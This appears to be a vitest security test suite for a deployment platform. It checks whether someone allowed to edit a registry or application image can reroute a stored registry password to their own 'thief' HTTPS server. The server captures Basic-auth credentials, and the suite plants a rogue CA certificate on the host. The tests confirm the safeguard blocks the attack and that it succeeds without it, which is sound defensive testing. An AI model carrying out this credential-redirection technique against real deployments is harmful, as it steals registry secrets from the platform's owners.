/** Somebody who may change a registry, or an image, has its stored password sent to a host of their own. */
import { createServer } from 'node:https';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { bedOfRun } from '../bed/bed-of-run.ts';
import { makeCertificate } from '../certificates/authority.ts';
import { project } from '../e2e/fixtures/berth-host.ts';
import { valueOf } from '../e2e/fixtures/caller.ts';
import { textOf } from '../http/interface-client.ts';
import { attackTable, leavesOutWall } from './support/attack.ts';
import type { Outcome } from './support/rows.ts';
import { lootOf, newName } from './support/deployments.ts';
import { attackedHost, type Attacked } from './support/fixture.ts';

const password = 'given-for-another-host';
const table = attackTable('stored passwords');
const { machineIp } = inject('bed');
const authority = makeCertificate({ name: 'thief', isAuthority: true });
const own = makeCertificate({ name: machineIp, hosts: [machineIp], issuer: authority });
/** What the registry of the thief was told. */
const heard: string[] = [];
const thief = createServer({ key: own.key, cert: own.pem }, (request, response) => {
  const [kind, told = ''] = (request.headers.authorization ?? '').split(' ');
  if (kind === 'Basic') heard.push(Buffer.from(told, 'base64').toString());
  response.writeHead(401, { 'www-authenticate': 'Basic realm="thief"' }).end();
});
let thiefsHost = '';
let world: Attacked;

beforeAll(async () => {
  await new Promise<void>((resolve) => thief.listen(0, machineIp, resolve));
  const address = thief.address();
  thiefsHost = `${machineIp}:${typeof address === 'object' && address !== null ? address.port : 0}`;
  world = await attackedHost(await bedOfRun(), 'passwords', 48);
  const trusted = `/etc/docker/certs.d/${thiefsHost}`;
  await world.berth.host.exec([
    'sh',
    '-ec',
    'mkdir -p "$1"; printf %s "$2" > "$1/ca.crt"',
    'sh',
    trusted,
    authority.pem,
  ]);
});
afterAll(async () => {
  thief.close();
  await world[Symbol.asyncDispose]();
});

async function told(work: () => Promise<string>): Promise<Outcome> {
  heard.length = 0;
  const said = await work();
  const loot = heard.find((one) => one.includes(password));
  return loot === undefined ? { succeeded: false, said } : { succeeded: true, said: loot };
}

const attacks: Readonly<Record<string, () => Promise<Outcome>>> = {
  'leads a stored registry to another host, and tests it': () =>
    told(async () => {
      const { owner } = world.installation;
      const signIn = { registryUrl: 'registry.example.com', username: 'shop', password };
      const made = await valueOf(owner('registry.create', { name: newName(), ...signIn }));
      const registryId = textOf(made, 'registryId');
      const changed = await owner('registry.update', { registryId, registryUrl: thiefsHost });
      await owner('registry.test', { registryId });
      return changed.text;
    }),
  'leads an application with a stored password to an image of another host': () =>
    told(async () => {
      const { owner, member, environmentId } = world.installation;
      const name = newName();
      const made = await valueOf(owner('application.create', { name, appName: name, environmentId }));
      const applicationId = textOf(made, 'applicationId');
      const image = { containerImage: 'registry.example.com/shop:1', registryUrl: 'registry.example.com' };
      await valueOf(
        owner('application.saveContainerProvider', { applicationId, ...image, username: 'shop', password }),
      );
      const changed = await member('application.update', {
        applicationId,
        containerImage: `${thiefsHost}/shop:1`,
        registryUrl: thiefsHost,
      });
      if (changed.status !== 200) return changed.text;
      await valueOf(member('application.deploy', { applicationId }));
      return (await lootOf(owner, { applicationId }, password)).said;
    }),
};

describe('with the walls as built', () => {
  it.each(Object.entries(attacks))('%s: held', async (attack, run) => {
    expect(await table.note(attack, 'as built', run())).toMatchObject({
      succeeded: false,
      said: expect.stringContaining('was given for'),
    });
  });
});

describe.runIf(leavesOutWall(import.meta.url))('with a password that goes wherever its record leads', () => {
  beforeAll(async () => {
    await world.berth.stop();
    await world.berth.start({}, `${project}/test/attacks/without/password-hosts.ts`);
  });

  it.each(Object.entries(attacks))('%s: succeeds', async (attack, run) => {
    expect(await table.note(attack, 'left out', run())).toEqual({
      succeeded: true,
      said: `shop:${password}`,
    });
  });
});
